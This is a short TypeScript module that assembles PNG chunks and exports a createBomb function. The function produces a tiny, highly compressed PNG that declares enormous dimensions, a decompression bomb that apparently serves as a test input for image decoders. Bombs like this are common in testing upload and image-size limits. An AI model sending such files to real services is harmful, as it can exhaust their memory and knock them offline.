import { crc32, deflateSync } from 'node:zlib';

/** A part of a PNG: its length, its kind, what it holds and a sum over that. */
export const createChunk = (kind: string, data: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
};
/** How every PNG begins. */
export const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of so many white or black pixels that is a few kilobytes as a file. */
export function createBomb(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const rows = deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))), { level: 9 });
  return Buffer.concat([
    PNG,
    createChunk('IHDR', head),
    createChunk('IDAT', rows),
    createChunk('IEND', Buffer.alloc(0)),
  ]);
}
